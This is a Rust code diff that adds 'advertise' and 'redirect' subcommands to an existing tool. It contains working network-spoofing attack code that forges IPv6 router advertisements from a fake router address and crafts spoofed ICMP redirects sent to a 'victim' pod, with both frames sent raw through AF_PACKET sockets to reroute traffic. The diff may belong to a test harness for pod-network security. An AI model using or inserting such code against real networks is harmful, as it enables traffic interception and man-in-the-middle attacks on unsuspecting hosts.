@@ -26,6 +26,14 @@ pub fn main(args: &[&str]) -> Result<(), Error> {
             Ok(())
         }
         ["sctp", port] => answer_sctp(port.parse()?),
+        ["advertise", interface, prefix] => advertise(interface, prefix.parse()?),
+        ["redirect", interface, victim, router, away, to] => redirect(
+            interface,
+            victim.parse()?,
+            router.parse()?,
+            away.parse()?,
+            to.parse()?,
+        ),
         _ => Err("no such command".into()),
     }
 }
@@ -194,4 +202,129 @@ fn crc32c(bytes: &[u8]) -> u32 {
             (sum >> 1) ^ (0x82f6_3b78 * (sum & 1))
         })
     })
+}
+
+/// Where a router of nobody's making has its link-local address.
+const ROUTER: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad);
+const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
+
+/// Sends a router advertisement, RFC 4861, 4.2, to everybody on the link of the interface: of a
+/// default router, and of a prefix to make addresses of. As a frame, for which neither an address
+/// nor a route is needed.
+pub fn advertise(interface: &str, prefix: Ipv6Addr) -> Result<(), Error> {
+    const LIFETIME: u16 = 1800;
+    let mut message = vec![134, 0, 0, 0, 64, 0];
+    message.extend(LIFETIME.to_be_bytes());
+    message.extend([0; 8]);
+    // The prefix: its length, on the link and for addresses, valid and preferred for so long.
+    message.extend([3, 4, 64, 0xc0]);
+    message.extend(86_400_u32.to_be_bytes());
+    message.extend(14_400_u32.to_be_bytes());
+    message.extend([0; 4]);
+    message.extend(prefix.octets());
+    let length = u16::try_from(message.len())?;
+    let mut pseudo = Vec::new();
+    pseudo.extend(ROUTER.octets());
+    pseudo.extend(ALL_NODES.octets());
+    pseudo.extend(u32::from(length).to_be_bytes());
+    pseudo.extend([0, 0, 0, 58]);
+    pseudo.extend(&message);
+    message[2..4].copy_from_slice(&checksum(&pseudo).to_be_bytes());
+    let mut packet = vec![0x60, 0, 0, 0];
+    packet.extend(length.to_be_bytes());
+    packet.extend([58, 255]);
+    packet.extend(ROUTER.octets());
+    packet.extend(ALL_NODES.octets());
+    packet.extend(message);
+    send_frame(interface, [0x33, 0x33, 0, 0, 0, 1], 0x86dd, &packet)
+}
+
+/// Sends `victim`, a pod, in the name of its `router` a redirect, RFC 792: what goes to `away` is to
+/// go to `to`.
+fn redirect(
+    interface: &str,
+    victim: Ipv4Addr,
+    router: Ipv4Addr,
+    away: Ipv4Addr,
+    to: Ipv4Addr,
+) -> Result<(), Error> {
+    let header = |from: Ipv4Addr, to: Ipv4Addr, length: u16| {
+        let mut header = vec![0x45, 0];
+        header.extend(length.to_be_bytes());
+        header.extend([0, 1, 0, 0, 64, 1, 0, 0]);
+        header.extend(from.octets());
+        header.extend(to.octets());
+        let sum = checksum(&header);
+        header[10..12].copy_from_slice(&sum.to_be_bytes());
+        header
+    };
+    // For a host; after it the packet that is said to have come: an answer to a ping.
+    let mut message = vec![5, 1, 0, 0];
+    message.extend(to.octets());
+    message.extend(header(victim, away, 28));
+    message.extend([0, 0, 0xff, 0xff, 0, 0, 0, 0]);
+    let sum = checksum(&message);
+    message[2..4].copy_from_slice(&sum.to_be_bytes());
+    let mut packet = header(router, victim, u16::try_from(20 + message.len())?);
+    packet.extend(message);
+    // The hardware address of a pod has its IPv4 address in it.
+    let [a, b, c, d] = victim.octets();
+    send_frame(interface, [0x0a, 0x58, a, b, c, d], 0x0800, &packet)
+}
+
+/// RFC 1071.
+fn checksum(bytes: &[u8]) -> u16 {
+    let words = bytes.chunks(2).map(|pair| {
+        u32::from(u16::from_be_bytes([
+            pair[0],
+            pair.get(1).copied().unwrap_or_default(),
+        ]))
+    });
+    let mut sum: u32 = words.sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+/// Sends a frame with this packet, packet(7); the kernel makes its header.
+fn send_frame(interface: &str, to: [u8; 6], protocol: u16, packet: &[u8]) -> Result<(), Error> {
+    let name = std::ffi::CString::new(interface)?;
+    // SAFETY: the name ends with a NUL.
+    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
+    if index == 0 {
+        return Err(std::io::Error::last_os_error().into());
+    }
+    let mut hardware = [0; 8];
+    hardware[..6].copy_from_slice(&to);
+    let address = libc::sockaddr_ll {
+        sll_family: libc::AF_PACKET as u16,
+        sll_protocol: protocol.to_be(),
+        sll_ifindex: i32::try_from(index)?,
+        sll_hatype: 0,
+        sll_pkttype: 0,
+        sll_halen: 6,
+        sll_addr: hardware,
+    };
+    // SAFETY: the packet and the address live through the call, and their lengths are theirs; the
+    // descriptor is nobody else's.
+    let sent = unsafe {
+        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC, 0);
+        if fd < 0 {
+            return Err(std::io::Error::last_os_error().into());
+        }
+        let socket: std::os::fd::OwnedFd = std::os::fd::FromRawFd::from_raw_fd(fd);
+        libc::sendto(
+            std::os::fd::AsRawFd::as_raw_fd(&socket),
+            packet.as_ptr().cast(),
+            packet.len(),
+            0,
+            (&raw const address).cast(),
+            size_of_val(&address) as libc::socklen_t,
+        )
+    };
+    if sent < 0 {
+        return Err(std::io::Error::last_os_error().into());
+    }
+    Ok(())
 }
